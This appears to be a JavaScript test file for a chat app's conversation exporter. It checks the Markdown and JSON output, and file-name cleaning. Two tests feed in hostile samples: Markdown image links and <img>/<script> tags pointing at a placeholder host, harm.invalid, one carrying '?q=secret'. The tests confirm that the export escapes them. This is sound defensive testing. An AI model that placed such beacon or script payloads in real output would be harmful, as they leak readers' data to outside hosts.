import assert from 'node:assert/strict';
import { test } from 'node:test';

import { FORMAT, fileName, toJson, toMarkdown } from '../../web/static/export.js';
import { setLang } from '../../web/static/i18n.js';
import { head, kept, source } from './kept.mjs';

const AT = Date.UTC(2026, 10, 23, 1, 2, 3);

test('Markdown holds questions, answers and where each source stands', () => {
  setLang('en');
  const text = toMarkdown(head('s', AT, 'My *talk*'), [kept('s', 'a', AT, 'one\ntwo', '# Yes\n\n- it is [1]')]);
  assert.equal(
    text,
    `# My \\*talk\\*

## Your question

> one
> two

## Answer

# Yes

- it is [1]

### Sources (1)

1. **Guide \\*of\\* \\[X\\]** (a/b.pdf, page 3, characters 10–32)
   
   > first line
   > second line
`,
  );
});

test('Markdown says where an answer was stopped or failed, and where the context ended', () => {
  setLang('ko');
  const stopped = kept('s', 'a', AT, 'q', 'half', { anew: true });
  stopped.answer = { ...stopped.answer, phase: 'stopped', sources: [] };
  const failed = kept('s', 'b', AT, 'q', '');
  failed.answer = { ...failed.answer, phase: 'failed', sources: null, error: { code: 'GEN-999', message: '생성 실패', solutions: [] } };
  const text = toMarkdown(head('s', AT), [stopped, failed]);
  for (const part of ['*서버가 위의 대화를 잊었습니다', '*여기서 멈췄습니다.*', '*생성 실패*']) assert.ok(text.includes(part), part);
});

test('a file of Markdown loads nothing when it is opened, and code stays as it is', () => {
  setLang('en');
  const picture = '![x](http://harm.invalid/?q=secret)';
  const html = '<img src=http://harm.invalid/a><script src=//harm.invalid></script><!-- x -->';
  const hostile = [
    `${picture} ![x][ref] ${html}`,
    `a \\![x](http://harm.invalid)`,
    '```js',
    'if (a<b) x = "![y](z)";',
    '```',
    picture,
    '~~~',
    '```',
    'code <b>',
    '~~~',
    html,
    ' ```',
    'inside',
    '```',
    picture,
  ].join('\n');
  const one = kept('s', 'a', AT, `${picture}\n${html}`, hostile);
  one.answer.sources.push(source({ title: picture, content: `\`\`\`\n${picture}\n${html}` }));
  const text = toMarkdown(head('s', AT, `${picture}${html}`), [one]);
  const code = ['if (a<b) x = "![y](z)";', 'code <b>'];
  for (const line of code) assert.ok(text.includes(`\n${line}\n`), line);
  const rest = code.reduce((left, line) => left.replace(line, ''), text);
  assert.ok(!/!\[/.test(rest), rest);
  assert.ok(!/(?<!\\)<[a-z/!?]/i.test(rest), rest);
});

test('what one program may take for code and another for text is text', () => {
  setLang('en');
  const picture = '![x](http://harm.invalid/a)';
  const unclear = [
    [' ```', 'a', '```', picture],
    ['- b', '', '  ```', picture],
    ['> ```', picture],
    ['``` a`b', picture],
    ['```', '```` ', picture],
    ['```', '   ```', picture],
    ['~~~', '~~~~ x', '~~~', picture],
    ['1. ~~~', '~~~', picture, '~~~', picture],
    ['$$', '```', '$$', picture],
    ['```a\r```\r', picture],
    ['~~~a\r~~~\r', picture],
    [`\\${picture}`],
    ['\\<img src=http://harm.invalid/a>'],
  ];
  for (const lines of unclear) {
    const text = toMarkdown(head('s', AT), [kept('s', 'a', AT, 'q', lines.join('\n'))]);
    const last = text.trimEnd().split('\n### ')[0].trimEnd().split('\n').at(-1) ?? '';
    assert.ok(!/!\[|<[a-z]/.test(last), JSON.stringify([lines, last]));
  }
});

test('JSON holds title, file, page, quote and offsets of each source', () => {
  const one = kept('s', 'a', AT, '질문');
  one.answer.sources.push(source({ metadata: { source: 'x.txt', chunk_id: 'y' } }));
  const data = JSON.parse(toJson(head('s', AT, '제목'), [one], AT));
  assert.deepEqual([data.format, data.title, data.session_id, data.exported], [FORMAT, '제목', 's', '2026-11-23T01:02:03.000Z']);
  const [turn] = data.turns;
  assert.deepEqual([turn.question, turn.answer, turn.state, turn.message_id], ['질문', 'An answer.', 'done', 'm-a']);
  assert.deepEqual(turn.sources[0], {
    number: 1,
    title: 'Guide *of* [X]',
    file: 'a/b.pdf',
    page: 3,
    quote: 'first line\nsecond line',
    start: 10,
    end: 32,
    document_id: 'd',
    cited: true,
    score: 0.5,
  });
  assert.deepEqual([turn.sources[1].page, turn.sources[1].start, turn.sources[1].cited], [null, null, false]);
});

test('a file name is one on every system', () => {
  assert.equal(fileName('보증 기간은?', 'md'), '보증 기간은.md');
  assert.equal(fileName('a/b\\c:"d"\u202e\u0000*', 'json'), 'a b c d.json');
  assert.equal(fileName('...', 'md'), 'conversation.md');
  assert.ok([...fileName('가'.repeat(200), 'md')].length <= 63);
});
